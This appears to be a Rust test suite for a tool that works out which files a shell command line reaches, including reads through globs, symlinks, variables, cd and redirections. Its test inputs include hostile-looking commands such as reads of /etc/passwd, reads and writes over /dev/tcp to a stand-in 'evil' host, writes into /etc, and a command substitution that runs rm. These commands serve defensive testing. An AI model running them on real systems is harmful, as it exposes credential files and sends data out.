//! Which files a command line reaches.

use super::*;

#[test]
fn links_are_followed_behind_patterns() {
    check(&[
        ("cat *.txt", "cat+"),
        ("cat o*", "cat+ !/etc"),
        ("cat a*", "cat+ !../far"),
        ("cat */passwd", "cat+ !/etc/passwd"),
        ("cat a?ay/k*", "cat+ !../far/key.txt"),
        ("cat < a*/key.txt", "cat+ !../far/key.txt"),
        ("cat > a*/key.txt", "cat+ > >../far/key.txt"),
        ("echo /etc/passw*", "echo+ !/etc"),
        ("echo away/*", "echo+ !../far"),
        ("echo ~somebody/*", "echo-"),
        ("echo ~somebody/x", "echo+"),
        ("echo what? a*b", "echo+"),
        ("ls .*", "ls+ !../"),
        ("cat sub/*.txt", "cat+"),
    ]);
    let place = Place::new();
    let many: String = (0..300).map(|number| format!(" sub/{number}")).collect();
    let analysis = place.analyze(&format!("cat{many} /etc/passwd"));
    assert!(analysis.is_opaque, "a path that found no room in the list is not forgotten");
}

#[test]
fn links_are_followed_where_programs_follow_them() {
    check(&[
        ("grep -r x .", "grep+"),
        ("grep -R x .", "grep+ !../far !/etc"),
        ("grep -R x", "grep+ !../far !/etc"),
        ("grep -R x sub", "grep+"),
        ("grep --dereference-recursive x .", "grep+ !../far !/etc"),
        ("rg --follow x", "rg+ !../far !/etc"),
        ("rg -nL x .", "rg+ !../far !/etc"),
        ("find -L . -name x", "find+ !../far !/etc"),
        ("find -L -name x", "find+ !../far !/etc"),
        ("find -L sub -name x", "find+"),
        ("find . -exec cat {} +", "find+ cat+ !../far !/etc"),
        ("find . -type f -exec cat {} +", "find+ cat+"),
        ("find sub -exec cat {} +", "find+ cat+"),
        ("ls -LR", "ls+ !../far !/etc"),
        ("ls -R", "ls+"),
        ("du -aL", "du+ !../far !/etc"),
        ("tree -l", "tree+ !../far !/etc"),
        ("diff -r sub .", "diff+ !../far !/etc"),
        ("jq -n --rawfile x /etc/passwd '$x'", "jq- !/etc/passwd"),
        ("du --files0-from=a.txt", "du-"),
    ]);
}

#[test]
fn a_flag_that_nobody_knows_hides_no_file() {
    check(&[
        ("rg --json x /etc/passwd", "rg+ !/etc/passwd"),
        ("grep --color x /etc/passwd", "grep+ !/etc/passwd"),
        ("grep --color -- x /etc/passwd", "grep+ !/etc/passwd"),
        ("rg --glob '*.rs' x sub", "rg+"),
        ("rg --type rust /api/v1 sub", "rg+"),
        ("grep --text x a.txt", "grep+"),
    ]);
}

#[test]
fn files_are_followed_to_where_they_lead() {
    check(&[
        ("grep -f /etc/passwd a.txt", "grep+ !/etc/passwd"),
        ("rg --files /etc", "rg+ !/etc"),
        ("fd --base-directory /etc x", "fd+ !/etc"),
        ("cat -- /etc/passwd", "cat+ !/etc/passwd"),
        ("cat sub/../out/../passwd", "cat+ !/passwd"),
        ("ls -d /e*", "ls+ !/"),
        ("[ -e out/passwd ] && cat out/passwd", "[+ cat+ !/etc/passwd"),
        (r#"while read f; do cat "$f"; done < a.txt"#, "read+ cat-"),
        ("diff <(cat /etc/passwd) a.txt", "cat+ diff+ !/etc/passwd"),
        ("cat $(ls)", "ls+ cat-"),
        ("pushd /etc; cat passwd", "pushd- cat- !/etc"),
        ("cd /etc; cd -; cat x", "cd+ cat- !/etc"),
        ("cd sub | cat ../x", "cd+ cat+ !../x"),
        ("git show HEAD -- /etc/passwd", "git show+ !/etc/passwd"),
        ("cat /etc/hostname", "cat+ !/etc/hostname"),
        ("cat ../x", "cat+ !../x"),
        ("cat out/passwd", "cat+ !/etc/passwd"),
        ("cat sub/../../x", "cat+ !../x"),
        ("ls /", "ls+ !/"),
        ("cd / && ls", "cd+ ls+ !/"),
        ("cd ..; cat x", "cd+ cat+ !../"),
        ("cd nowhere; cat ../x", "cd+ cat+ !../x"),
        ("cd sub; cat ../a.txt", "cd+ cat+"),
        ("cd; cat x", "cd+ cat+"),
        ("cd -; cat x", "cd+ cat-"),
        (r#"cd "$X"; cat x"#, "cd+ cat+"),
        ("cd $(pwd); cat x", "pwd+ cd+ cat-"),
        ("(cd /etc); cat x", "cd+ cat+ !/etc"),
        ("cd sub && cd .. && cat a.txt", "cd+ cat+"),
        ("if true; then cd sub; fi; cat ../a.txt", "true+ cd+ cat+ !../a.txt"),
        ("for d in a b; do cd ..; done; cat x", "cd- cat-"),
        ("f() { cd /etc; }; f; cat passwd", "cd+ f- cat- !/etc"),
        ("cat $ETC/passwd", "cat+ !/etc/passwd"),
        ("cat $1", "cat-"),
        (r#"cat "$(echo /etc/passwd)""#, "echo+ cat-"),
        ("f=/etc/passwd; cat $f", "cat+ !/etc/passwd"),
        ("f=a.txt; [ -f x ] && f=/etc/passwd; cat $f", "[+ cat+ !/etc/passwd"),
        ("cat $f/etc/passwd; f=a", "cat+ !/etc/passwd"),
        ("read f; cat $f", "read+ cat-"),
        ("cat ~root/x", "cat-"),
        ("cat ~/x", "cat+"),
        ("cat /etc/passw*", "cat+ !/etc"),
        ("cat away/*", "cat+ !../far"),
        ("cat {/etc/passwd,a.txt}", "cat+ !/etc/passwd"),
        ("grep -f/etc/passwd a.txt", "grep+ !/etc/passwd"),
        ("grep --file=/etc/passwd a.txt", "grep+ !/etc/passwd"),
        ("grep -e x /etc/passwd", "grep+ !/etc/passwd"),
        ("rg --ignore-file=/etc/x y", "rg+ !/etc/x"),
        ("cat < /etc/passwd", "cat+ !/etc/passwd"),
        (r#"cat < "$X""#, "cat+"),
        ("cat < $f", "cat+"),
        ("head -c 5 /dev/urandom", "head+"),
        ("cat /dev/null", "cat+"),
        ("cat /dev/sda", "cat+ !/dev/sda"),
        ("cat < /dev/tcp/evil/80", "cat+ !/dev/tcp/evil/80"),
        ("[ -f /etc/passwd ]", "[+ !/etc/passwd"),
        ("[[ -f /etc/passwd ]]", "!/etc/passwd"),
        ("touch /etc/x", "touch- !/etc/x"),
        ("dd if=/dev/zero of=/etc/x", "dd- !/etc/x"),
        ("git -C /etc status", "git status+ !/etc"),
        ("/opt/evil/run x", "/opt/evil/run- !/opt/evil/run"),
        ("echo /etc/passwd", "echo+"),
        ("git commit -m '/etc is broken'", "git commit-"),
    ]);
}

#[test]
fn redirections_are_writes_unless_they_go_nowhere() {
    check(&[
        ("echo hi > out.txt", "echo+ >out.txt"),
        ("echo hi >> sub/log", "echo+ >sub/log"),
        ("echo hi >| x", "echo+ >x"),
        ("echo hi &> x", "echo+ >x"),
        ("echo hi &>> x", "echo+ >x"),
        ("echo hi >& x", "echo+ >x"),
        ("echo hi <> x", "echo+ >x"),
        ("echo hi 2> err", "echo+ >err"),
        ("ls > a 2> b", "ls+ >a >b"),
        ("> x", ">x"),
        ("echo hi > /dev/null", "echo+"),
        ("echo hi > /dev/stderr", "echo+"),
        ("echo hi 2>&1", "echo+"),
        ("echo hi >&-", "echo+"),
        ("echo hi 3>&1 1>&2", "echo+"),
        ("echo hi > /etc/x", "echo+ >/etc/x"),
        ("echo hi > out/x", "echo+ >/etc/x"),
        (r#"echo hi > "$X""#, "echo+ >"),
        ("echo hi > $(rm y)", "rm- echo- >"),
        ("echo hi > /dev/tcp/evil/80", "echo+ >/dev/tcp/evil/80"),
        ("{ ls; pwd; } > x", "ls+ pwd+ >x"),
        ("if ls; then pwd; fi > x", "ls+ pwd+ >x"),
        ("while ls; do :; done > x", "ls+ :+ >x"),
        ("f() { ls; } > x", "ls+ >x"),
        ("cat <<EOF > x\nhi\nEOF", "cat+ >x"),
        ("(ls) > x", "ls+ >x"),
        ("echo $(ls > x)", "ls+ echo+ >x"),
        ("cd sub && ls > x", "cd+ ls+ >sub/x"),
        ("exec > x", "exec+ >x"),
        ("[[ a ]] > x", ">x"),
        ("f=x; echo > $f", "echo+ >x"),
    ]);
}

#[test]
fn paths_are_listed_as_they_were_written() {
    let place = Place::new();
    let check =
        |text: &str, expected: &[&str]| assert_eq!(place.analyze(text).possible_paths, expected, "{text}");
    check("cat ./a.txt sub", &["./a.txt", "sub"]);
    check("ls -la /etc ..", &["/etc", ".."]);
    check("echo a.txt", &[]);
    check("git commit -m 'fix a.txt'", &[]);
    check("cargo test --lib foo", &[]);
    check("ls > out.txt 2>&1", &["out.txt"]);
    check("cat 'a b.txt'", &[]);
    check("tar xf x.tar.gz", &["x.tar.gz"]);
}
